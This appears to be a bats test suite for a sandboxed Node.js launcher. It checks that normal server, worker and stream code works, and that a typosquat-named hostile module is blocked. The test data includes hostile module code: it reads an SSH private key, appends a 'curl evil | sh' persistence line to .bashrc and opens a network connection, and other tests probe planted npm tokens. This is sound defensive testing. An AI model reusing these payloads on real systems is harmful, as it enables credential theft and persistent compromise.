# node: an HTTP server and its client, worker threads, child processes, streams; a hostile module gets nothing.

bats_require_minimum_version 1.5.0
load ../lib/common
load ../lib/profiles

setup_file() {
	packages nodejs python3
}

setup() {
	residue_before
}

teardown() {
	residue_after
}

serves() {
	cat >server.js <<'END'
const http = require("http"), fs = require("fs/promises"), assert = require("assert");
const server = http.createServer(async (request, response) => {
	if (request.method === "PUT") {
		const chunks = [];
		for await (const chunk of request) chunks.push(chunk);
		await fs.writeFile("." + request.url, Buffer.concat(chunks));
		response.end();
	} else {
		response.setHeader("content-type", "application/json");
		response.end(JSON.stringify({ text: await fs.readFile("." + request.url, "utf8") }));
	}
});
server.listen(0, "localhost", async () => {
	const at = `http://localhost:${server.address().port}/notes.txt`;
	await new Promise(done => {
		const put = http.request(at, { method: "PUT" }, answer => answer.resume().on("end", done));
		put.end("remember the milk\n");
	});
	http.get(at, answer => {
		let body = "";
		answer.on("data", part => body += part).on("end", () => {
			console.log(JSON.parse(body).text);
			server.close();
		});
	});
	await new Promise(done => server.on("close", done));
});
END
	run launch -- node server.js
	assert_status 0
	assert_line "remember the milk"
	[ "$(cat notes.txt)" = "remember the milk" ]
	[ "$(stat -c %u notes.txt)" = "$(stat -c %u .)" ]
}

@test "node serves HTTP on loopback and writes files" {
	each_launcher serves
}

works() {
	mkdir -p node_modules/sums
	echo '{"name":"sums","version":"1.0.0","main":"index.js"}' >node_modules/sums/package.json
	echo 'exports.sum = list => list.reduce((a, b) => a + b, 0);' >node_modules/sums/index.js
	cat >work.mjs <<'END'
import { Worker, isMainThread, parentPort, workerData } from "node:worker_threads";
import { execFile, fork } from "node:child_process";
import { createReadStream, createWriteStream, readFileSync } from "node:fs";
import { pipeline } from "node:stream/promises";
import { createGzip, gunzipSync } from "node:zlib";
import { createHash, pbkdf2 } from "node:crypto";
import { promisify } from "node:util";
import sums from "sums";

if (!isMainThread) {
	parentPort.postMessage(sums.sum(workerData));
} else {
	const parts = await Promise.all([1, 2, 3, 4].map(n => new Promise((done, failed) => {
		const worker = new Worker(new URL(import.meta.url), { workerData: Array(100000).fill(n) });
		worker.on("message", done).on("error", failed);
	})));
	console.log("workers", sums.sum(parts));
	console.log("child", (await promisify(execFile)("sort", ["-rn", "numbers.txt"])).stdout.split("\n")[0]);
	await pipeline(createReadStream("numbers.txt"), createGzip(), createWriteStream("numbers.gz"));
	console.log("gzip", gunzipSync(readFileSync("numbers.gz")).equals(readFileSync("numbers.txt")));
	console.log("hash", createHash("sha256").update("abc").digest("hex").slice(0, 8));
	console.log("pool", (await promisify(pbkdf2)("secret", "salt", 1000, 8, "sha1")).length);
}
END
	seq 20000 >numbers.txt
	run launch -- node work.mjs
	assert_status 0
	assert_line "workers 1000000"
	assert_line "child 20000"
	assert_line "gzip true"
	assert_line "hash ba7816bf"
	assert_line "pool 8"
}

@test "node runs worker threads, child processes, streams and a module" {
	each_launcher works
}

# A module that does more than it says, as soon as it is required.
hostile() {
	mkdir -p node_modules/left-padd
	cat >node_modules/left-padd/index.js
}

refuses_module() {
	local theirs=$TMP/theirs-$LAUNCHER

	mkdir -p "$theirs/.ssh"
	echo key >"$theirs/.ssh/id_ed25519"
	hostile <<<"require('fs').readFileSync('$theirs/.ssh/id_ed25519')"
	refuses node -e 'require("left-padd")'
	assert_output ENOENT
	hostile <<<"require('fs').appendFileSync('$theirs/.bashrc', 'curl evil | sh')"
	refuses node -e 'require("left-padd")'
	_listen
	hostile <<<"require('net').connect($PORT, '127.0.0.1')"
	refuses node -e 'require("left-padd")'
	assert_output ECONNREFUSED
	kill "$LISTENER"
	rm "$TMP/port"
}

refuses_tokens() {
	echo 'TOKEN=hunter2' >.env
	echo '//registry.npmjs.org/:_authToken=hunter2' >.npmrc
	refuses grep -q hunter2 .env
	refuses grep -q hunter2 .npmrc
	export NPM_TOKEN=hunter2
	refuses sh -c 'env | grep -q hunter2'
}

# The heap grows until the cgroup ends it.
refuses_heap() {
	[ "$LAUNCHER" = root ] || return 0
	echo 'const all = []; for (let i = 0; i < 400; i++) all.push(Buffer.alloc(1 << 20, 1));' >hog.js
	# shellcheck disable=SC2034 # for refuses
	local LAUNCH_OPTIONS=(-D memory=256M)
	refuses node hog.js
	assert_status 137
}

refusals() {
	refuses_module
	refuses_tokens
	refuses_heap
	refuses_processes
	refuses_namespaces
	refuses_setuid
}

heap() {
	local grow='const keep = []; for (;;) keep.push({ at: keep.length, text: "k" + keep.length })'

	# Within the limit of the sandbox as it comes, and where the caller wants it.
	[ "$(launch -- node -p 'require("v8").getHeapStatistics().heap_size_limit < 2 ** 31')" = true ]
	run launch -D heap=100 -- node -e "$grow"
	[ "$status" -gt 128 ]
	assert_output 'heap out of memory'
	# Garbage is collected, though the whole of it would not fit.
	run launch -D memory=400M -D heap=200 -- node -e 'let ring = []; for (let i = 0; i < 3e7; i++) { ring.push({ i }); if (ring.length > 1e6) ring = [] } console.log("collected")'
	assert_status 0
	assert_line collected
}

@test "the heap of node fits the memory limit" {
	each_launcher heap
}

@test "node lets a hostile module read no key or token, write no start file, call nobody" {
	each_launcher refusals
}
